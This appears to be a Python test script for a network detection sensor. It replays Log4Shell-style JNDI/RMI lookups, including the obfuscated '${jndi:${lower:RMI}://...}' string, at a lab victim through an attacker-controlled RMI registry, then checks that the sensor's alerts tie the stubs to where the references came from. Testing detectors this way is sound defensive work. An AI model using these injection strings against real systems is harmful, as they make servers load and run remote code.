#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""rmi.py SENSOR CLASSES: a JDK asks another one's RMI registry for what it should not, over one connection after the other
and over connections that are kept. The reference itself comes from a port that nobody knows beforehand.
"""
import sys

import lab

REGISTRY = "rmi://%s:1099/" % lab.ATTACKER


def called(name):
    return {"stage": "callback", "scheme": "rmi", "host": lab.ATTACKER, "port": 1099,
            "rmi": {"operation": "call", "method": "lookup", "name": name}}


# The registry knows only where the reference is to be had.
WRAPPER = {"stage": "callback", "answer": "wrapper", "content": "stub", "host": lab.ATTACKER, "port": 1099,
           "classes": {"has": ["com.sun.jndi.rmi.registry.ReferenceWrapper_Stub"]}}

ATTACKS = [
    ("${jndi:${lower:RMI}://%s:1099/remote}" % lab.ATTACKER, None,
     [lab.lookup_of(REGISTRY + "remote"), called("remote"), WRAPPER, lab.reference("rmi"), lab.FETCHED]),
    ("${jndi:rmi://%s/parcel}" % lab.ATTACKER, None,
     [lab.lookup_of("rmi://%s/parcel" % lab.ATTACKER, port=1099), called("parcel"), lab.serialized("rmi", "Registry$Parcel", "java.util.HashMap")]),
    ("lookup %sremote" % REGISTRY, "done payload-has-run", [called("remote"), WRAPPER, lab.reference("rmi"), lab.FETCHED]),
    ("lookup %slocal" % REGISTRY, "done Reference", [called("local"), WRAPPER, lab.local_reference("rmi")]),
    ("lookup %smissing" % REGISTRY, "failed javax.naming.NameNotFoundException", [called("missing"), {"stage": "callback", "rmi": {"operation": "exception"}}]),
]


def main():
    program, classes = sys.argv[1:3]
    lab.enter("curl", "slapd", "slapadd", "openssl")
    lab.need_java()
    lab.build_network()
    peers = lab.Peers(classes, registry=True)
    sensor = lab.Sensor(program, "workers: 2")
    lab.play(sensor, peers.victim, ATTACKS)
    told = [lab.facts(alert) for alert in sensor.alerts()]
    named = {endpoint for part in told if part.get("answer") == "wrapper" for endpoint in part["rmi"]["endpoints"]}
    asked = {"%s:%d" % (part["host"], part["port"]) for part in told if part["stage"] == "reference"}
    assert named == asked, "the stubs name %s, the references came from %s" % (named, asked)
    sensor.stop()


if __name__ == "__main__":
    main()
